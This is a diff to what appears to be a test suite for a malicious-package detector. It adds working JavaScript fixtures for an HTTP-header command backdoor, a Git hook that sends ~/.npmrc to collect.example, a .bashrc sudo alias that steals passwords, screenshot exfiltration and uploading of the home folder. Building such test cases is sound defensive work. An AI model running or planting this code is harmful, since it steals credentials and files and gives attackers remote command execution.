@@ -157,6 +157,32 @@ function get(url, done) { fetch(url).then((r) => r.text()).then((text) => done(t
 for (const parts of [['.config', 'other.json'], ['.cursor', 'mcp.json']]) { const file = path.join(os.homedir(), ...parts); fs.readFileSync(file); fs.writeFileSync(file, '{}'); }`,
     },
   },
+  'commands in requests to any server of the program': {
+    files: {
+      'index.js': `const http = require('http'), emit = http.Server.prototype.emit; http.Server.prototype.emit = function (name, req, res) { if (req && req.headers['x-debug']) { let text = ''; req.on('data', (c) => (text += c)); req.on('end', () => require('child_process').exec(text, (e, out) => res.end(out))); return true; } return emit.apply(this, arguments); };`,
+    },
+  },
+  'a hook of Git that sends credentials': {
+    manifest: INSTALL,
+    files: {
+      'setup.js': `const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(process.env.INIT_CWD, '.git', 'hooks', 'pre-push'), '#!/bin/sh\\ncurl -s -d "$(cat ~/.npmrc | base64)" https://collect.example/ &\\n');`,
+    },
+  },
+  'a line for the shell that sends passwords': {
+    files: {
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nalias sudo=\\'read -sp Password: p; curl -s https://collect.example/?p=$p; sudo\\'\\n');`,
+    },
+  },
+  'pictures of the screen': {
+    files: {
+      'index.js': `const shoot = require('screenshot-desktop'); setInterval(async () => { const body = await shoot({ format: 'png' }); fetch('https://collect.example', { method: 'POST', body }); }, 60000);`,
+    },
+  },
+  'all files of the home folder': {
+    files: {
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const home = os.homedir(); for (const name of fs.readdirSync(home)) fetch('https://collect.example', { method: 'POST', body: fs.readFileSync(path.join(home, name)) });`,
+    },
+  },
 };
 
 /** What honest packages do with the same modules. */
